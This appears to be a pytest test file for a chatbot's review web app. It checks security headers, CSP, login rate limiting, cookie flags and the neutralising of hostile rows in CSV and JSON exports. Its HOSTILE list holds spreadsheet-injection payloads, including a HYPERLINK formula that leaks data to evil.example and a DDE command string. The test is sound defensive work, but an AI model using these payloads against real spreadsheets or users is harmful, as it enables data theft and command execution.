"""Real clients and hostile input on the web app: security headers on every response, pages
without inline code under a Content-Security-Policy, the limit on wrong review tokens, the
session cookie over HTTP and HTTPS, and exports (web and command line) of hostile rows."""
from __future__ import annotations

import asyncio
import csv
import datetime
import io
import ipaddress
import json
import re
import ssl
import unicodedata
from html.parser import HTMLParser

import pytest
from aiohttp.test_utils import TestClient, TestServer

from bot.review import store
from bot.review.__main__ import main as review_cli
from bot.review.models import LoggedQuestion
from bot.settings import Settings
from bot.web.app import create_app
from bot.web.common import TEMPLATE_DIR
from bot.review.export import CSV_HEADER
from bot.web.security import AuthFailures, origin
from bot.web.site import WIDGET_DIR

TOKEN = "jeton-de-test"
BEARER = {"Authorization": f"Bearer {TOKEN}"}
OWASP_START = ("=", "+", "-", "@", "\t", "\r")  # what a cell must never begin with


def policy(header: str) -> dict[str, list[str]]:
    """A Content-Security-Policy header as {directive: [sources]}."""
    directives = [d.split() for d in header.split(";") if d.strip()]
    return {d[0]: d[1:] for d in directives}


def serve(scenario, settings: Settings, ssl_context=None):
    """Run scenario(client) against the whole web app over real HTTP (or HTTPS) on loopback."""

    async def run():
        server = TestServer(create_app(settings))
        await server.start_server(ssl=ssl_context)
        async with TestClient(server) as client:
            await scenario(client)

    asyncio.run(run())


@pytest.fixture()
def settings(kb_url, monkeypatch):
    monkeypatch.setenv("KNOWLEDGE_DB_URL", kb_url)
    monkeypatch.setenv("REVIEW_TOKEN", TOKEN)
    monkeypatch.setenv("PUBLIC_BOT_URL", "https://chat.cestes.example:8443/assistant")
    return Settings.from_env()


# --- headers ------------------------------------------------------------------------------

def test_every_response_carries_the_security_headers(settings):
    async def scenario(client):
        seen = {}
        for method, path, headers in [
            ("GET", "/", None), ("GET", "/health", None), ("GET", "/widget/widget.js", None),
            ("GET", "/widget/widget.css", None), ("GET", "/static/programme.css", None),
            ("GET", "/static/review.css", None), ("GET", "/nowhere", None), ("GET", "/static/", None),
            ("POST", "/health", None), ("GET", "/review", None), ("GET", "/review", BEARER),
            ("GET", "/review/api/dashboard", BEARER), ("GET", "/review/api/dashboard", None),
            ("GET", "/review/export.csv", BEARER), ("GET", "/review/export.json", BEARER),
            ("GET", "/review/nowhere", BEARER), ("GET", "/review/api/unanswered?since=hier", BEARER),
        ]:
            response = await client.request(method, path, headers=headers)
            seen[(method, path, bool(headers))] = response.status
            assert response.headers["X-Content-Type-Options"] == "nosniff", path
            csp = policy(response.headers["Content-Security-Policy"])
            assert "'unsafe-inline'" not in str(csp) and "'unsafe-eval'" not in str(csp), path
            if path.startswith("/review"):
                assert csp["frame-ancestors"] == ["'none'"] and csp["default-src"] == ["'none'"], path
                assert response.headers["X-Frame-Options"] == "DENY", path
                assert response.headers["Referrer-Policy"] == "no-referrer", path
                assert response.headers["Cache-Control"] == "no-store", path
            elif path == "/":
                assert response.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
            else:
                assert csp["default-src"] == ["'none'"], path
        # The errors, too, went through the same headers.
        assert {seen[("GET", "/nowhere", False)], seen[("POST", "/health", False)],
                seen[("GET", "/review", False)], seen[("GET", "/review/nowhere", True)],
                seen[("GET", "/review/api/unanswered?since=hier", True)]} == {404, 405, 401, 400}

    serve(scenario, settings)


def test_the_programme_page_policy_allows_its_own_files_and_the_rasa_server_only(settings):
    async def scenario(client):
        response = await client.get("/")
        assert response.status == 200
        csp = policy(response.headers["Content-Security-Policy"])
        assert csp["default-src"] == ["'none'"]
        assert csp["script-src"] == ["'self'"] and csp["style-src"] == ["'self'"]
        # The widget posts to the Rasa server: its origin, not its path (a path would match exactly).
        assert csp["connect-src"] == ["'self'", "https://chat.cestes.example:8443"]
        assert csp["base-uri"] == ["'none'"]
        assert "'unsafe-inline'" not in response.headers["Content-Security-Policy"]

    serve(scenario, settings)


def test_the_default_rasa_address_is_allowed_too(kb_url, monkeypatch):
    monkeypatch.setenv("KNOWLEDGE_DB_URL", kb_url)
    monkeypatch.setenv("BOT_PORT", "5123")

    async def scenario(client):
        csp = policy((await client.get("/")).headers["Content-Security-Policy"])
        assert csp["connect-src"] == ["'self'", "http://127.0.0.1:5123"]

    serve(scenario, Settings.from_env())


@pytest.mark.parametrize("url, expected", [
    ("https://chat.example.org/assistant", "https://chat.example.org"),
    ("HTTP://Chat.Example.org:8000", "http://chat.example.org:8000"),
    ("http://[::1]:5005", "http://[::1]:5005"),
    ("https://chat.example.org;script-src *", None), ("https://chat example.org", None),
    ("javascript:alert(1)", None), ("https://chat.example.org:99999", None), ("", None),
])
def test_only_a_plain_origin_is_written_into_the_policy(url, expected):
    assert origin(url) == expected


class Inline(HTMLParser):
    """What a policy without 'unsafe-inline' would block, and the files a page loads."""

    def __init__(self):
        super().__init__()
        self.blocked, self.loads = [], []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "style" or (tag == "script" and not attrs.get("src")):
            self.blocked.append(f"<{tag}>")
        self.blocked += [f"{tag} {name}=" for name in attrs if name == "style" or name.startswith("on")]
        self.blocked += [f"{tag} {name}={value}" for name, value in attrs.items()
                         if value and value.strip().lower().startswith("javascript:")]
        if tag == "script" and attrs.get("src"):
            self.loads.append(attrs["src"])
        if tag == "link" and attrs.get("rel") == "stylesheet":
            self.loads.append(attrs["href"])


def test_the_pages_have_no_inline_code_and_their_files_are_served_from_here(settings):
    with store.session(settings.review_db_url) as session, session.begin():
        store.record(session=session, item=store.Entry("v", "une question ?", "fallback"))

    async def scenario(client):
        pages = {"/": (await client.get("/")), "/review": (await client.get("/review", headers=BEARER)),
                 "login": (await client.get("/review"))}
        for name, response in pages.items():
            parser = Inline()
            parser.feed(await response.text())
            assert parser.blocked == [], name
            assert parser.loads, name
            for url in parser.loads:
                assert url.startswith("/") and not url.startswith("//"), url  # this server: 'self'
                served = await client.get(url)
                assert served.status == 200, url
                assert served.content_type in ("text/css", "text/javascript", "application/javascript"), url

    serve(scenario, settings)
    for template in TEMPLATE_DIR.glob("*.html"):  # every template, whichever branch renders
        source = template.read_text("utf-8")
        assert not re.search(r"<style|\sstyle=|\son\w+=|javascript:|<script(?![^>]*\ssrc=)", source), template
    widget = (WIDGET_DIR / "widget.js").read_text("utf-8")
    # The widget builds its DOM with setAttribute and textContent: no style attribute, no handler
    # attribute, no HTML parsing, no eval (element.style.setProperty is CSSOM, which CSP allows).
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|"
                         r"""["']style["']\s*:|["']on\w+["']\s*:|setAttribute\(\s*["'](style|on)""", widget)


# --- wrong tokens ---------------------------------------------------------------------------

def test_ten_wrong_tokens_a_minute_then_429_in_french(settings):
    async def scenario(client):
        for _ in range(10):
            response = await client.post("/review/login", data={"token": "devine"}, allow_redirects=False)
            assert response.status == 401
        for token in ("devine", TOKEN):  # past the limit even the right token waits
            response = await client.post("/review/login", data={"token": token}, allow_redirects=False)
            assert response.status == 429 and 1 <= int(response.headers["Retry-After"]) <= 60
            page = await response.text()
            assert "Trop de tentatives de connexion" in page and "Réessayez dans" in page
            assert response.headers["X-Content-Type-Options"] == "nosniff"
        # The header and the cookie are no way around it.
        response = await client.get("/review/api/dashboard", headers=BEARER)
        assert response.status == 429 and "Retry-After" in response.headers
        assert (await response.json())["error"].startswith("trop de tentatives")
        response = await client.get("/review", cookies={"review_token": TOKEN})
        assert response.status == 429
        assert (await client.get("/health")).status == 200  # the rest of the site is not concerned

    serve(scenario, settings)


def test_the_right_token_is_never_counted(settings):
    async def scenario(client):
        for _ in range(25):
            assert (await client.get("/review/api/dashboard", headers=BEARER)).status == 200
        for _ in range(9):
            response = await client.get("/review/api/dashboard", headers={"Authorization": "Bearer faux"})
            assert response.status == 401
        for _ in range(3):  # no token at all is not a guess
            assert (await client.get("/review/api/dashboard")).status == 401
        assert (await client.post("/review/login", data={"token": TOKEN}, allow_redirects=False)).status == 303
        assert (await client.get("/review/api/dashboard", headers={"Authorization": "Bearer faux"})).status == 401
        assert (await client.get("/review/api/dashboard", headers=BEARER)).status == 429

    serve(scenario, settings)


def test_failures_are_counted_per_address_over_a_sliding_minute():
    now = [1000.0]
    failures = AuthFailures(clock=lambda: now[0])
    for second in range(10):
        now[0] = 1000.0 + second
        assert failures.wait("203.0.113.7") == 0
        failures.fail("203.0.113.7")
    assert failures.wait("203.0.113.7") == 51  # the first failure leaves the window at 1060
    assert failures.wait("203.0.113.8") == 0 and failures.wait(None) == 0
    now[0] = 1060.0
    assert failures.wait("203.0.113.7") == 0  # one failure has left the window
    failures.fail("203.0.113.7")
    assert failures.wait("203.0.113.7") == 1
    now[0] = 1070.0
    assert failures.wait("203.0.113.7") == 0
    # IPv6 per /64, an IPv4-mapped address as the IPv4 one.
    assert AuthFailures.key("2001:db8:1:2:aaaa::1") == AuthFailures.key("2001:db8:1:2:bbbb::9") == "2001:db8:1:2::/64"
    assert AuthFailures.key("::ffff:203.0.113.7") == "203.0.113.7"
    # Memory stays bounded whatever the number of addresses.
    small = AuthFailures(clock=lambda: now[0])
    small.MAX_ADDRESSES = 100
    for n in range(1000):
        small.fail(f"10.0.{n // 256}.{n % 256}")
    assert len(small._failures) == 100


# --- the session cookie -----------------------------------------------------------------------

def login_cookie(response) -> str:
    [cookie] = [c for c in response.headers.getall("Set-Cookie") if c.startswith("review_token=")]
    return cookie


def test_the_cookie_over_plain_http_is_not_secure_whatever_a_client_claims(settings):
    async def scenario(client):
        response = await client.post("/review/login", data={"token": TOKEN}, allow_redirects=False,
                                     headers={"X-Forwarded-Proto": "https"})  # not trusted
        cookie = login_cookie(response)
        assert response.status == 303
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/review" in cookie
        assert "Secure" not in cookie

    serve(scenario, settings)


@pytest.fixture()
def tls(tmp_path):
    """A server context with a self-signed certificate for 127.0.0.1, and a client one trusting it."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.timezone.utc)
    certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
                   .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
                   .not_valid_after(now + datetime.timedelta(days=1))
                   .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
                                  critical=False)
                   .sign(key, hashes.SHA256()))
    cert, private = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    private.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                          serialization.NoEncryption()))
    server = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    server.load_cert_chain(cert, private)
    return server, ssl.create_default_context(cafile=str(cert))


def test_the_cookie_over_https_is_secure(settings, tls):
    server_context, client_context = tls

    async def scenario(client):
        assert client.make_url("/").scheme == "https"
        response = await client.post("/review/login", data={"token": TOKEN}, allow_redirects=False,
                                     ssl=client_context)
        cookie = login_cookie(response)
        assert response.status == 303
        assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie
        assert "Path=/review" in cookie
        page = await client.get("/review", ssl=client_context)  # the jar sends it back over HTTPS
        assert page.status == 200 and "Questions sans réponse" in await page.text()

    serve(scenario, settings, ssl_context=server_context)


# --- exports of hostile rows ------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")', "+1", "-2", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x1b=cmd|' /C calc'!A0", "=1;2;3", "-", "@", "+",
    'il a dit "bonjour" ; puis ";" ; rien', "ligne 1\nligne 2\r\nligne 3\rfin",
    "NUL\x00 BEL\x07 BS\x08 VT\x0b FF\x0c ESC\x1b[31m US\x1f DEL\x7f NEL\x85 CSI\x9b fin",
    "x" * 5000, "émoji 😀👍🏽 et \u202e inversé, \u2028 séparateur", "'déjà cité", "  =espace devant",
    "", ";", '"', "\ufeff=BOM devant", "＝1+1 pleine chasse", "a\tb",
]


def clean(text: str) -> str:
    """The text as a CSV cell should hold it: control characters removed but tab and line feed."""
    return "".join(c for c in text if c in "\t\n" or unicodedata.category(c) != "Cc")


def check_csv(content: str, ids: dict[int, int], bom: bool) -> None:
    """Every row back, no cell a formula, each text as logged but its control characters."""
    assert content.startswith("\ufeff") == bom
    rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows[0] == CSV_HEADER
    assert len(rows) == len(ids) + 2  # + the row with a broken intents column
    for row in rows[1:]:
        assert len(row) == len(CSV_HEADER), row
        for cell in row:
            assert not cell.startswith(OWASP_START), cell
            assert clean(cell) == cell, cell
    by_id = {int(row[0]): row for row in rows[1:]}
    for row_id, n in ids.items():
        row = by_id[row_id]
        for column, original in ((3, HOSTILE[n][:store.MAX_TEXT]), (7, HOSTILE[-1 - n][:store.MAX_TEXT]),
                                 (8, HOSTILE[n][:100] or None)):
            expected = clean(original) if original is not None else ""
            if expected.startswith(OWASP_START):
                assert row[column] == "'" + expected, (n, column)
            else:
                assert row[column] in (expected, "'" + expected), (n, column)
        name = clean(HOSTILE[n][:50])
        assert row[6] in (f"{name} 0.50", f"'{name} 0.50")
        assert row[4] == "fallback" and row[5] == "new"


def check_json(content: str, ids: dict[int, int]) -> None:
    """Valid JSON (the parser refuses raw control characters in strings), every text exact."""
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", content)
    rows = {row["id"]: row for row in json.loads(content)}
    assert len(rows) == len(ids) + 1
    for row_id, n in ids.items():
        # The log keeps everything but NUL, which PostgreSQL refuses (bot/review/store.py).
        assert rows[row_id]["text"] == HOSTILE[n].replace("\x00", "")[:store.MAX_TEXT]
        assert rows[row_id]["reply"] == HOSTILE[-1 - n].replace("\x00", "")[:store.MAX_TEXT]
        assert rows[row_id]["intents"] == [{"name": HOSTILE[n][:50], "confidence": 0.5}]


@pytest.fixture()
def hostile_log(settings):
    """The hostile texts as questions, replies, intents and entries; {row id: index in HOSTILE}."""
    items = [store.Entry(f"visiteur-{n}", text, "fallback", [{"name": text[:50], "confidence": 0.5}],
                         reply=HOSTILE[-1 - n], entry=text[:100] or None) for n, text in enumerate(HOSTILE)]
    with store.session(settings.review_db_url) as session, session.begin():
        ids = {store.record(session=session, item=item): n for n, item in enumerate(items)}
        # A row whose intents column holds something else than the logger writes.
        session.add(LoggedQuestion(conversation="x", text="=colonne bizarre", normalised="colonne bizarre",
                                   intents={"name": "=x", "confidence": "haute"}, reason="fallback"))
    return ids


def test_hostile_rows_through_the_web_exports(settings, hostile_log):
    async def scenario(client):
        response = await client.get("/review/export.csv", headers=BEARER)
        assert response.status == 200 and response.content_type == "text/csv" and response.charset == "utf-8"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert 'filename="questions.csv"' in response.headers["Content-Disposition"]
        check_csv((await response.read()).decode("utf-8"), hostile_log, bom=True)
        filtered = await client.get("/review/export.csv?reason=fallback&status=new", headers=BEARER)
        check_csv((await filtered.read()).decode("utf-8"), hostile_log, bom=True)

        response = await client.get("/review/export.json", headers=BEARER)
        assert response.status == 200 and response.content_type == "application/json"
        assert response.charset == "utf-8" and response.headers["X-Content-Type-Options"] == "nosniff"
        check_json((await response.read()).decode("utf-8"), hostile_log)

    serve(scenario, settings)


def test_hostile_rows_through_the_command_line(settings, hostile_log, tmp_path, capsys):
    output = tmp_path / "export.csv"
    assert review_cli(["export", "--format", "csv", "--output", str(output)]) == 0
    check_csv(output.read_bytes().decode("utf-8"), hostile_log, bom=True)
    capsys.readouterr()
    assert review_cli(["export", "--format", "csv"]) == 0
    check_csv(capsys.readouterr().out, hostile_log, bom=False)
    output = tmp_path / "export.json"
    assert review_cli(["export", "--format", "json", "--output", str(output)]) == 0
    check_json(output.read_text("utf-8"), hostile_log)
    assert review_cli(["export", "--format", "json"]) == 0
    check_json(capsys.readouterr().out, hostile_log)


def test_the_web_and_the_command_line_write_the_same_csv(settings, hostile_log, tmp_path):
    output = tmp_path / "export.csv"
    assert review_cli(["export", "--format", "csv", "--output", str(output)]) == 0

    async def scenario(client):
        response = await client.get("/review/export.csv", headers=BEARER)
        assert await response.read() == output.read_bytes()

    serve(scenario, settings)
